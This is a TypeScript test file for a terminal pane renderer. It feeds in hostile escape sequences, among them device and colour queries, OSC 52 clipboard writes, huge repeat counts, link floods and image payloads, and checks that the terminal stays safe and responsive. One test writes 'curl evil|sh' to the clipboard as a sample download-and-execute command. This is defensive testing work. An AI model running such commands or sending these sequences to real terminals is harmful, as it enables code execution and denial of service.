import type { PaneInfo } from '#dto';
import { PaneScreen } from './pane-screen';
import { isReport } from './hardening';

const PANE: PaneInfo = {
  id: '%1',
  window: '@1',
  index: 0,
  left: 0,
  top: 0,
  cols: 80,
  rows: 24,
  title: '',
  command: 'cat',
  path: '/',
  mode: null,
  dead: false,
  historyLimit: 2000,
};

/** Far above what any of these takes here, far below what it took without the bounds. */
const QUICK_MS = 10_000;

interface Seen {
  readonly sent: readonly string[];
  readonly copied: readonly string[];
  readonly followed: readonly string[];
  /** Longest the page was kept from drawing and from taking keys, in ms. */
  readonly longestTaskMs: number;
  readonly screen: PaneScreen;
  readonly text: string;
}

/** Writes output as it would come from tmux and then a line, and waits until both were parsed. */
async function show(pieces: readonly string[]): Promise<Seen> {
  const sent: string[] = [];
  const copied: string[] = [];
  const followed: string[] = [];
  const screen = new PaneScreen(
    PANE,
    { theme: {}, fontFamily: 'monospace', fontSize: 14 },
    { followLink: (uri) => followed.push(uri), copy: (text) => copied.push(text) },
  );
  screen.terminal.onData((data) => sent.push(data));
  screen.terminal.onBinary((data) => sent.push(data));
  let longestTaskMs = 0;
  let last = performance.now();
  const timer = setInterval(() => {
    longestTaskMs = Math.max(longestTaskMs, performance.now() - last);
    last = performance.now();
  });
  for (const piece of [...pieces, '\x18\x1bc\x1b[Hstill here']) {
    await new Promise<void>((resolve) => {
      screen.write(piece, () => {
        resolve();
      });
    });
  }
  clearInterval(timer);
  const text = screen.terminal.buffer.active.getLine(0)?.translateToString(true) ?? '';
  return { sent, copied, followed, longestTaskMs, screen, text };
}

describe('hostile output', () => {
  it.each([
    ['G1', ['\x1b[c', '\x1b[0c', '\x1b[>c', '\x1b[=c', '\x1bZ', '\x1b[>q', '\x05']],
    ['G1', ['\x1b[5n', '\x1b[6n', '\x1b[?6n', '\x1b[?15n', '\x1b[?26n', '\x1b[?996n']],
    ['G3', ['\x1b[?25$p', '\x1b[4$p', '\x1b[?2026$p', '\x1bP$qm\x1b\\', '\x1bP$q"p\x1b\\']],
    ['G3', ['\x1bP+q544e\x1b\\', '\x1b[?u', '\x1b[x', '\x1b[1x', '\x1b[?1$p']],
    ['G5', ['\x1b]10;?\x07', '\x1b]11;?\x1b\\', '\x1b]12;?\x07', '\x1b]10;?;?;?\x07']],
    ['G5', ['\x1b]4;0;?\x07', '\x1b]4;0;#000;1;?\x07', '\x1b]5;0;?\x07', '\x1b]104;?\x07']],
    ['G5', ['\x1b[14t', '\x1b[16t', '\x1b[18t', '\x1b[19t', '\x1b[20t', '\x1b[21t', '\x1b[11t']],
    ['G7', ['\x1b]52;c;?\x07', '\x1b]52;;?\x1b\\', '\x1bPtmux;\x1b\x1b]52;c;?\x07\x1b\\']],
  ])('[%s] types nothing for the questions %j', async (_case, questions) => {
    const seen = await show(questions);
    expect(seen.sent).toEqual([]);
    expect(seen.copied).toEqual([]);
    expect(seen.text).toBe('still here');
  });

  it('[G1] reports that a terminal could send by itself are known from keys', () => {
    const reports = [
      '\x1b[I',
      '\x1b[?1;2c',
      '\x1b[>0;276;0c',
      '\x1b[0n',
      '\x1b[?12;1R',
      '\x1b[?25;1$y',
      '\x1b[4;1$y',
      '\x1b[8;24;80t',
      '\x1b]11;rgb:00/00/00\x1b\\',
      '\x1bP1$r0m\x1b\\',
    ];
    expect(reports.filter((report) => !isReport(report))).toEqual([]);
    const keys = ['a', '\x1b', '\x1b[A', '\x1bOP', '\x1b[1;5C', '\x1b[1;2R', '\x1b[Z', '\x1b[3~'];
    const more = ['\x1b]', '\x1bP', '\x1b_', '\x1b[<0;1;1M', '\x1b[M !!', '\x1b[200~x\x1b[201~'];
    expect([...keys, ...more].filter(isReport)).toEqual([]);
  });

  it('[G7] asks before a program writes to the clipboard, whatever it writes', async () => {
    const text = 'curl evil|sh\n';
    const base64 = Buffer.from(text).toString('base64');
    expect((await show([`\x1b]52;c;${base64}\x07`])).copied).toEqual([text]);
    const huge = Buffer.alloc(90 * 1024).toString('base64');
    expect((await show([`\x1b]52;c;${huge}\x07`])).copied).toEqual([]);
  });

  it.each(['b', 'L', 'M', 'S', 'T', 'Z', 'I', '@', 'P', 'X', '^', ' @', ' A', "'}", "'~"])(
    '[G15] [G17] is not kept busy by a count of a billion, CSI %s',
    async (final) => {
      const counted = ['1000000000', '4294967296', '999999999999999999999', '1;1000000000'];
      const seen = await show(counted.map((count) => `a\x1b[${count}${final}`));
      expect(seen.longestTaskMs).toBeLessThan(QUICK_MS / 10);
      expect(seen.text).toBe('still here');
    },
  );

  it.each([
    ['different targets', (i: number) => `\x1b]8;;http://x/${String(i)}\x07a\x1b]8;;\x07`],
    ['one id', (_i: number) => '\x1b]8;id=1;http://x/\x07a\r\n'],
    ['no end', (i: number) => `\x1b]8;;http://x/${String(i)}\x07a\r\n`],
  ])('[G19] does not hang on very many links with %s', async (_what, link) => {
    const many = Array.from({ length: 100_000 }, (_, i) => link(i)).join('');
    const started = performance.now();
    const seen = await show([many]);
    expect(performance.now() - started).toBeLessThan(QUICK_MS);
    expect(seen.screen.terminal.markers.length).toBeLessThan(1_000);
    expect(seen.text).toBe('still here');
  });

  it('[G19] draws one link over very many lines', async () => {
    const started = performance.now();
    const seen = await show([`\x1b]8;;http://x/\x07${'a\r\n'.repeat(100_000)}`]);
    expect(performance.now() - started).toBeLessThan(QUICK_MS);
    expect(seen.text).toBe('still here');
  });

  it.each([
    ['sixel', ['\x1bPq"1;1;30000;30000', '#0;2;0;0;0'.repeat(10_000), '\x1b\\']],
    ['iTerm', ['\x1b]1337;File=size=9000000000;inline=1:', 'A'.repeat(200_000), '\x07']],
    ['kitty', ['\x1b_Ga=T,f=100,m=1;AAAA\x1b\\'.repeat(10_000)]],
  ])('[G23] loads no picture: %s', async (_what, pieces) => {
    const image = jest.spyOn(window, 'Image');
    const seen = await show(pieces);
    expect(image).not.toHaveBeenCalled();
    expect(seen.sent).toEqual([]);
    expect(seen.text).toBe('still here');
    image.mockRestore();
  });

  it('[G27] keeps resets and character sets to the terminal, and can be reset', async () => {
    const seen = await show(['\x1bc\x1b[!p\x1b(0\x0e\x1b[?1049h\x1b[?25l\x1b[8m', '\x1b(B\x0f']);
    expect(seen.text).toBe('still here');
    const { screen } = seen;
    await new Promise<void>((resolve) => {
      screen.write('\x1b(0\x1b[?1000hqqq', () => {
        resolve();
      });
    });
    screen.reset();
    await new Promise<void>((resolve) => {
      screen.write('qqq', () => {
        resolve();
      });
    });
    expect(screen.terminal.buffer.active.getLine(0)?.translateToString(true)).toBe('qqq');
    expect(screen.terminal.modes.mouseTrackingMode).toBe('none');
  });

  it('[G31] [G33] takes 8-bit controls and lines that look like events for text', async () => {
    const seen = await show(['\u009b6n\u009dc;?\u009c', 'data: x\n\nevent: connection-info\n\n']);
    expect(seen.sent).toEqual([]);
    expect(seen.text).toBe('still here');
  });
});
